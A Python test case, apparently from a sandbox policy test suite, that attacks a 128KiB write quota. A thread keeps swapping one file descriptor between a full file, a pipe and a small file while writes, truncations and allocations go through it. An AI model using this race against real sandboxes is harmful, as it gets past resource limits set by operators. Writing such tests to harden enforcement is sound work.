# SPDX-License-Identifier: Apache-2.0
# attack: a descriptor that is now a pipe and now a full file, while it is written to
# class: quota
# wins: stored=131072,12
# needs: write
# policy: write: {path: "%A/work", quota: 128KiB, files: 12}
from kit import *

W = F['work']
tried()
full = openat(W + '/full', os.O_RDWR | os.O_CREAT | os.O_APPEND)
for size in (65536, 4096, 1):
    while sc('write', full, bytes(size), size) > 0 and os.fstat(full).st_size < 4 << 20:
        pass
r, w = os.pipe2(os.O_NONBLOCK)
small = openat(W + '/small', os.O_RDWR | os.O_CREAT)
at = 400
os.dup2(w, at)
end, stop = time.monotonic() + 0.2, []


def swap():
    while not stop:
        for fd in (full, w, small, full, w):
            sc('dup2', fd, at)


thread = threading.Thread(target=swap, daemon=True)
thread.start()
data = bytes(8192)
while time.monotonic() < end:
    sc('write', at, data, 8192)
    sc('pwrite64', at, data, 8192, 1 << 17)
    sc('ftruncate', at, 1 << 18)
    sc('fallocate', at, 0, 0, 1 << 18)
    try:
        os.read(r, 65536)
    except OSError:
        pass
stop.append(1)
thread.join()
hold()
